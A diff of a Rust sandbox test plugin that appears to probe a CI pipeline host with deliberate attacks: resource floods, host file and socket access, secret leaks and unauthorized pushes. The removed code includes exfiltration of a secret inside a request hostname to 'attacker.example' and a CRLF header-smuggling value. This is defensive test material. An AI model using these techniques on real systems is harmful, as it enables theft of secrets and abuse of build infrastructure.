@@ -2,15 +2,17 @@
 //!
 //! An attack that fails as it should either never returns, or returns what the
 //! host told it. One that gets what it wanted ends with the output `stolen`.
+//! `attacks.toml` beside this crate says which there are and how each has to end.
 
-use std::hint::black_box;
-use std::net::TcpStream;
-use std::time::Duration;
+mod files;
+mod leaks;
+mod leave;
+mod network;
+mod takes;
 
-use bespin_sdk::http::{Header, Request};
-use bespin_sdk::secrets::Part;
-use bespin_sdk::{Deserialize, Failure, Outputs, Result, http, info, registry, reject, secrets, workspace};
+use bespin_sdk::{Deserialize, Outputs, Result};
 
+/// What the pipeline says.
 #[derive(Deserialize)]
 #[serde(rename_all = "kebab-case", deny_unknown_fields)]
 struct Settings {
@@ -19,6 +21,23 @@ struct Settings {
     /// What to try it on, where that varies.
     #[serde(default)]
     on: String,
+    /// A request's method.
+    #[serde(default = "get")]
+    method: String,
+    /// A request's header.
+    #[serde(default = "plain")]
+    header: String,
+    /// That header's value.
+    #[serde(default = "plain")]
+    value: String,
+}
+
+fn get() -> String {
+    "GET".to_owned()
+}
+
+fn plain() -> String {
+    "x-plain".to_owned()
 }
 
 #[derive(Deserialize)]
@@ -38,34 +57,94 @@ enum Attack {
     Frames,
     /// Logs without end.
     LogFlood,
+    /// Logs a text that is all line breaks.
+    EmptyLines,
     /// Prints without end, and then ends well: what was printed is cut off.
     PrintFlood,
     /// Answers with more than it may.
     OutputFlood,
+    /// Answers with more names than it may.
+    OutputNames,
     /// Asks the host without end.
     HostCallFlood,
     /// Collects handles to a secret without end.
     HandleFlood,
+    /// Hands very long texts to every function of the host.
+    LongTexts,
+    /// Hands the host one text that is longer than all that it may hand over.
+    GiantText,
+    /// Sends a request with more headers than anybody needs.
+    ManyHeaders,
+    /// Asks for more random bytes than it may have at once.
+    RandomFlood,
+    /// Looks for environment variables.
+    Environment,
+    /// Looks for arguments.
+    Arguments,
+    /// Reads its standard input.
+    Input,
+    /// Reads a file of the host.
+    File,
+    /// Lists a folder of the host.
+    Folder,
+    /// Writes a file of the host.
+    Write,
+    /// Reads a path of the workspace.
+    Workspace,
+    /// Lists a path of the workspace.
+    WorkspaceList,
+    /// Reads the clocks as finely as it can.
+    Clock,
+    /// Connects to an address.
+    Socket,
+    /// Sends a datagram.
+    Datagram,
+    /// Listens.
+    Listen,
+    /// Resolves a name.
+    Resolve,
+    /// Sends a request.
+    Request,
+    /// Sends the same request twice.
+    RequestTwice,
+    /// Sends a request and follows where its answer points.
+    FollowRedirect,
+    /// Finds a secret.
+    Find,
+    /// Reads a secret that it may only use.
+    Reveal,
+    /// Puts a secret into the host name of a request.
+    SecretInAddress,
+    /// Repeats a secret in a header until it is very long.
+    SecretRepeated,
+    /// Reads a secret back from an answer that repeats the request.
+    SecretEchoed,
+    /// Tells a secret that it may read, by the way that `on` names.
+    Leak,
     /// Pushes where it may not.
     Registry,
     /// Pushes where it may not, and says that all is well.
     RegistryHidden,
-    /// Looks for environment variables.
-    Environment,
-    /// Reads a file of the host.
-    File,
-    /// Connects to an address.
-    Socket,
-    /// Reads a path of the workspace that leaves it.
-    Workspace,
-    /// Reads a secret that it may only use.
-    Reveal,
-    /// Puts a secret into the address of a request.
-    SecretInAddress,
-    /// Sends a request with a header that ends the message early.
-    HeaderSmuggling,
-    /// Sends a request.
-    Request,
+    /// Writes into a repository.
+    Git,
+    /// Syncs an application.
+    Sync,
+    /// Follows a rollout.
+    Follow,
+    /// Runs a container.
+    Container,
+    /// Builds an image.
+    Build,
+    /// Stores an artifact under a name.
+    Artifact,
+    /// Stores an artifact that is longer than it may be.
+    ArtifactFlood,
+    /// Saves an archive under a key.
+    Archive,
+    /// Searches the cache for very many prefixes.
+    Prefixes,
+    /// Asks a metric provider.
+    Metrics,
     /// Panics.
     Panic,
     /// Ends well, as an honest step does.
@@ -73,145 +152,67 @@ enum Attack {
 }
 
 fn run(settings: Settings) -> Result<Outputs> {
+    let on = settings.on.as_str();
     match settings.attack {
         Attack::None => Ok(Outputs::new().with("answer", "42")),
-        Attack::Loop => spin(),
-        Attack::LoopWithCalls => ask_and_spin(),
-        Attack::Sleep => sleep(),
-        Attack::Memory => take_memory(),
-        Attack::Recursion => stolen(recurse(1)),
-        Attack::Frames => stolen(recurse_with_frames(0)),
-        Attack::LogFlood => flood_log(),
-        Attack::PrintFlood => flood_output(),
+        Attack::Loop => takes::spin(),
+        Attack::LoopWithCalls => takes::ask_and_spin(),
+        Attack::Sleep => takes::sleep(),
+        Attack::Memory => takes::memory(),
+        Attack::Recursion => stolen(takes::recurse(1)),
+        Attack::Frames => stolen(takes::recurse_with_frames(0)),
+        Attack::LogFlood => takes::flood_log(),
+        Attack::EmptyLines => takes::empty_lines(),
+        Attack::PrintFlood => takes::flood_output(),
         Attack::OutputFlood => Ok(Outputs::new().with("flood", "x".repeat(8 << 20))),
-        Attack::HostCallFlood => flood_host(),
-        Attack::HandleFlood => flood_handles(),
-        Attack::Registry => push(&settings.on),
-        Attack::RegistryHidden => push(&settings.on).or_else(|_| Ok(Outputs::new().with("answer", "all is well"))),
-        Attack::Environment => environment(),
-        Attack::File => file(&settings.on),
-        Attack::Socket => socket(&settings.on),
-        Attack::Workspace => workspace::read(&settings.on).map_err(Failure::from).and_then(stolen),
-        Attack::Reveal => secrets::get(&settings.on)?.reveal().map_err(Failure::from).and_then(stolen),
-        Attack::SecretInAddress => secret_in_address(&settings.on),
-        Attack::HeaderSmuggling => header_smuggling(&settings.on),
-        Attack::Request => request(&settings.on, "x-plain", "plain"),
+        Attack::OutputNames => takes::many_names(),
+        Attack::HostCallFlood => takes::flood_host(),
+        Attack::HandleFlood => takes::flood_handles(),
+        Attack::LongTexts => takes::long_texts(),
+        Attack::GiantText => takes::giant_text(),
+        Attack::ManyHeaders => network::many_headers(on),
+        Attack::RandomFlood => takes::flood_random(),
+        Attack::Environment => files::environment(),
+        Attack::Arguments => files::arguments(),
+        Attack::Input => files::input(),
+        Attack::File => files::read(on),
+        Attack::Folder => files::list(on),
+        Attack::Write => files::write(on),
+        Attack::Workspace => files::workspace(on),
+        Attack::WorkspaceList => files::workspace_list(on),
+        Attack::Clock => takes::clock(),
+        Attack::Socket => network::connect(on),
+        Attack::Datagram => network::datagram(on),
+        Attack::Listen => network::listen(),
+        Attack::Resolve => network::resolve(on),
+        Attack::Request => network::request(&settings),
+        Attack::RequestTwice => network::request(&settings).and_then(|_| network::request(&settings)),
+        Attack::FollowRedirect => network::follow(on),
+        Attack::Find => leaks::find(on),
+        Attack::Reveal => leaks::reveal(on),
+        Attack::SecretInAddress => leaks::in_address(on),
+        Attack::SecretRepeated => leaks::repeated(on),
+        Attack::SecretEchoed => leaks::echoed(on),
+        Attack::Leak => leaks::tell(on),
+        Attack::Registry => leave::push(on),
+        Attack::RegistryHidden => leave::push(on).or_else(|_| Ok(Outputs::new().with("answer", "all is well"))),
+        Attack::Git => leave::bump(on),
+        Attack::Sync => leave::sync(on),
+        Attack::Follow => leave::follow(on),
+        Attack::Container => leave::container(on),
+        Attack::Build => leave::build(on),
+        Attack::Artifact => leave::artifact(on, b"hostile"),
+        Attack::ArtifactFlood => leave::artifact("flood", &vec![1; 9 << 20]),
+        Attack::Archive => leave::archive(on, b"hostile"),
+        Attack::Prefixes => leave::prefixes(),
+        Attack::Metrics => leave::metrics(on),
         Attack::Panic => panic!("the plugin panics as it was asked to"),
     }
 }
 
+/// What an attack that worked ends with.
 fn stolen<T>(_loot: T) -> Result<Outputs> {
     Ok(Outputs::new().with("stolen", "yes"))
-}
-
-fn spin() -> ! {
-    let mut number = 0u64;
-    loop {
-        number = black_box(number.wrapping_add(1));
-    }
-}
-
-fn ask_and_spin() -> Result<Outputs> {
-    loop {
-        let _names = workspace::list("")?;
-        for number in 0..1_000_000u64 {
-            black_box(number);
-        }
-    }
-}
-
-fn sleep() -> Result<Outputs> {
-    std::thread::sleep(Duration::from_secs(3600));
-    stolen(())
-}
-
-fn take_memory() -> Result<Outputs> {
-    let mut hoard = Vec::new();
-    loop {
-        hoard.push(black_box(vec![1u8; 1 << 20]));
-    }
-}
-
-#[inline(never)]
-fn recurse(depth: u64) -> u64 {
-    if depth == 0 { 1 } else { recurse(depth + 1).wrapping_mul(3) ^ depth }
-}
-
-#[expect(unconditional_recursion, reason = "it is the attack")]
-fn recurse_with_frames(depth: u64) -> u64 {
-    let frame = black_box([depth; 16]);
-    recurse_with_frames(black_box(depth + 1)) + frame[3]
-}
-
-fn flood_log() -> Result<Outputs> {
-    loop {
-        info!("{}", "flood ".repeat(1000));
-    }
-}
-
-fn flood_output() -> Result<Outputs> {
-    for _ in 0..2000 {
-        println!("{}", "flood ".repeat(1000));
-    }
-    Ok(Outputs::new().with("answer", "42"))
-}
-
-fn flood_host() -> Result<Outputs> {
-    loop {
-        let _names = workspace::list("");
-    }
-}
-
-fn flood_handles() -> Result<Outputs> {
-    let mut hoard = Vec::new();
-    loop {
-        hoard.push(secrets::get("token")?);
-    }
-}
-
-fn push(to: &str) -> Result<Outputs> {
-    registry::push(&registry::PushRequest { build: None, to: to.to_owned(), tag: "v1".to_owned() })?;
-    stolen(())
-}
-
-fn environment() -> Result<Outputs> {
-    match std::env::vars().next() {
-        Some(_) => stolen(()),
-        None => reject!("there is no environment"),
-    }
-}
-
-fn file(path: &str) -> Result<Outputs> {
-    match std::fs::read(path) {
-        Ok(bytes) => stolen(bytes),
-        Err(error) => reject!("no file: {error}"),
-    }
-}
-
-fn socket(address: &str) -> Result<Outputs> {
-    match TcpStream::connect(address) {
-        Ok(stream) => stolen(stream),
-        Err(error) => reject!("no connection: {error}"),
-    }
-}
-
-fn secret_in_address(name: &str) -> Result<Outputs> {
-    let secret = secrets::get(name)?;
-    let url =
-        vec![Part::Text("https://".to_owned()), Part::Secret(&secret), Part::Text(".attacker.example/".to_owned())];
-    http::send(&Request { method: "GET".to_owned(), url, headers: Vec::new(), body: Vec::new() })?;
-    stolen(())
-}
-
-fn header_smuggling(url: &str) -> Result<Outputs> {
-    request(url, "x-plain", "plain\r\nhost: attacker.example")
-}
-
-fn request(url: &str, name: &str, value: &str) -> Result<Outputs> {
-    let headers = vec![Header { name: name.to_owned(), value: vec![Part::Text(value.to_owned())] }];
-    let url = vec![Part::Text(url.to_owned())];
-    let answer = http::send(&Request { method: "GET".to_owned(), url, headers, body: Vec::new() })?;
-    Ok(Outputs::new().with("status", answer.status.to_string()))
 }
 
 bespin_sdk::step!(run);
